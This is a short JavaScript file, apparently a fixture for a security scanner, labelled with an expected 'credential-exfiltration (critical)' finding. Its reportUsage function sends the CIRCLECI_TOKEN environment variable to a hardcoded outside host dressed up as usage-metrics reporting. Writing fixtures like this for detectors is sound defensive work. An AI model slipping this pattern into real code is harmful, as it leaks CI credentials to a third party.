// A second base joined the same way, but to a hardcoded host of someone else:
// the token goes there too.
const join = (base, path) => base + path;

export async function reportUsage(event) {
    // expect: credential-exfiltration (critical)
    await fetch(join("https://ingest.usage-metrics.example.net", "/v1/events"), { method: "POST", headers: { "X-Token": process.env.CIRCLECI_TOKEN }, body: JSON.stringify(event) });
}
